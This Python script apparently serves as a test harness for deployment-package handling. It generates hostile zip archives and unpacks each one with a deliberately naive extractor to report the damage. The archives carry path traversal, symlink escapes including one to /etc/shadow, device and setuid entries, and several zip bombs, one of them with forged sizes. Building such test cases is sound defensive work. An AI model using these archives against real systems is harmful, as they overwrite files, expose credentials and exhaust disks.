"""Deployment packages that do harm when they are unpacked by whoever believes them.

`python3 packages.py NAME ZIP FOLDER` writes the package to ZIP, unpacks it naively into FOLDER/target, and says what
that did outside of it. What would fill the disk is counted, not written.
"""

import json
import os
import stat
import struct
import sys
import zipfile
import zlib

MIB = 1 << 20
MOST = 250 * MIB
HANDLER = ("app.py", b"def handler(event, context):\n    return 'served'\n", 0o100644)


def package(path, *entries, handler=True):
    """Each entry is a name, content and a unix mode."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content, mode in (HANDLER, *entries) if handler else entries:
            info = zipfile.ZipInfo("placeholder")
            info.filename = name
            info.external_attr = mode << 16
            info.create_system = 3
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)


FILE, LINK = 0o100644, 0o120777


def absolute(path, top):
    package(path, (top + "/escaped", b"x", FILE))


def parent(path, top):
    package(path, ("../escaped", b"x", FILE))


def parent_within(path, top):
    package(path, ("a/b/../../../escaped", b"x", FILE))


def backslashes(path, top):
    package(path, ("..\\escaped", b"x", FILE))


def link_absolute(path, top):
    package(path, ("link", top.encode(), LINK), ("link/escaped", b"x", FILE))


def link_to_parent(path, top):
    package(path, ("link", b"..", LINK), ("link/escaped", b"x", FILE))


def link_alone(path, top):
    """Nothing is written through it: whoever reads it later is led out."""
    package(path, ("secret", b"../../../../../../../../etc/shadow", LINK))


def link_to_the_host(path, top):
    """Its function reads what is behind, where there is anything."""
    with open(top + "/secret", "w") as secret:
        secret.write("the host's")
    reader = b"""
import os
def handler(event, context):
    found = [link for link in ("direct", "folder/secret", "up%s/secret") if os.path.exists("/var/task/" + link)]
    return "read " + repr(found) if found else "served"
""" % top.encode()
    package(
        path,
        ("direct", (top + "/secret").encode(), LINK),
        ("folder", top.encode(), LINK),
        ("up", b"../../../..", LINK),
        ("app.py", reader, FILE),
        handler=False,
    )


def chain_of_links(path, top):
    package(path, ("a/b/one", b"..", LINK), ("two", b"a/b/one/../..", LINK), ("two/escaped", b"x", FILE))


def link_replaced_by_file(path, top):
    """The second entry of the same name is written through the first."""
    package(path, ("twice", b"../escaped", LINK), ("twice", b"x", FILE))


def circle_of_links(path, top):
    package(path, ("one", b"two", LINK), ("two", b"one", LINK))


def device(path, top):
    package(path, ("null", b"", stat.S_IFCHR | 0o666))


def pipe(path, top):
    """Whoever opens it for reading waits for ever."""
    package(path, ("pipe", b"", stat.S_IFIFO | 0o666))


def setuid(path, top):
    package(path, ("root-shell", b"#!/bin/sh\n", 0o104755))


def bomb(path, top):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(*HANDLER[:2])
        with archive.open("zeros", "w") as file:
            for _ in range(256):
                file.write(bytes(MIB))


def bomb_that_lies(path, top):
    """Says that it is a kilobyte."""
    bomb(path, top)
    change_directory(path, b"zeros", 24, struct.pack("<I", 1024))
    change_local(path, b"zeros", 22, struct.pack("<I", 1024))


def overlapping_entries(path, top):
    """Three hundred names for one block of data."""
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = zeros.compress(bytes(MIB)) + zeros.flush()
    check = zlib.crc32(bytes(MIB))
    fields = (20, 0, 8, 0, 33, check, len(data), MIB)
    local = b"PK\3\4" + struct.pack("<HHHHHIII", *fields) + struct.pack("<HH", 6, 0) + b"name00"
    directory = b""
    for number in range(300):
        directory += b"PK\1\2" + struct.pack("<HHHHHHIII", 20, *fields)
        directory += struct.pack("<HHHHHII", 6, 0, 0, 0, 0, 0, 0) + b"%06d" % number
    start = len(local) + len(data)
    with open(path, "wb") as file:
        file.write(local + data + directory)
        file.write(b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 300, 300, len(directory), start, 0))


def many_entries(path, top):
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(100_001):
            archive.writestr("%d" % number, b"")


def bomb_within(path, top):
    """A bomb for whoever unpacks what he unpacked."""
    bomb(path + ".inner", top)
    with open(path + ".inner", "rb") as inner:
        package(path, ("inner.zip", inner.read(), FILE))
    os.unlink(path + ".inner")


def change_directory(path, name, offset, value):
    change(path, b"PK\1\2", 46, name, offset, value)


def change_local(path, name, offset, value):
    change(path, b"PK\3\4", 30, name, offset, value)


def change(path, magic, length, name, offset, value):
    with open(path, "r+b") as file:
        data = file.read()
        at = data.find(magic)
        while data[at + length : at + length + len(name)] != name:
            at = data.index(magic, at + 1)
        file.seek(at + offset)
        file.write(value)


def unpack(path, target):
    """As a script of ten lines would."""
    total = entries = 0
    with zipfile.ZipFile(path) as archive:
        for info in archive.infolist():
            entries += 1
            place = os.path.join(target, info.orig_filename.replace("\\", "/"))
            mode = info.external_attr >> 16
            if entries > 1000:
                continue
            os.makedirs(os.path.dirname(place), exist_ok=True)
            if stat.S_ISLNK(mode):
                os.symlink(archive.read(info), place)
            elif stat.S_ISCHR(mode) or stat.S_ISFIFO(mode):
                os.mknod(place, mode, os.makedev(1, 3))
            else:
                total += write(path, info, place)
                if not os.path.islink(place):
                    os.chmod(place, stat.S_IMODE(mode) or 0o644)
    return total, entries


def write(path, info, place):
    """Inflates whatever is there, and believes no size; keeps the first mebibyte."""
    with open(path, "rb") as file:
        file.seek(info.header_offset)
        head = file.read(30)
        name, extra = struct.unpack("<HH", head[26:30])
        file.seek(info.header_offset + 30 + name + extra)
        if not info.compress_type:  # only empty ones are stored
            open(place, "wb").close()
            return 0
        inflate = zlib.decompressobj(-15)
        total = 0
        with open(place, "wb") as out:
            while not inflate.eof:
                data = inflate.decompress(file.read(65536))
                if total < MIB:
                    out.write(data)
                total += len(data)
        return total


def damage(top, target, total, entries):
    if os.path.lexists(os.path.join(top, "escaped")):
        return "wrote outside of its folder"
    if total > MOST:
        return "takes %d MiB" % (total // MIB)
    if entries > 100_000:
        return "takes %d files" % entries
    for name in os.listdir(target):
        status = os.lstat(os.path.join(target, name))
        if stat.S_ISCHR(status.st_mode) or stat.S_ISFIFO(status.st_mode):
            return "made a device or pipe"
        if status.st_mode & stat.S_ISUID:
            return "made a setuid program"
        if stat.S_ISLNK(status.st_mode) and not os.path.realpath(os.path.join(target, name)).startswith(target + "/"):
            return "made a link that leads out"
        if stat.S_ISLNK(status.st_mode) and not os.path.exists(os.path.join(target, name)):
            return "made links in a circle"
        if name == "inner.zip":
            return "holds a bomb"
    return None


def main():
    name, path, top = sys.argv[1:]
    globals()[name](path, top)
    target = os.path.join(top, "target")
    os.makedirs(target)
    how = damage(top, target, *unpack(path, target))
    print(json.dumps({"worked": how is not None, "how": how or "no harm"}))


main()
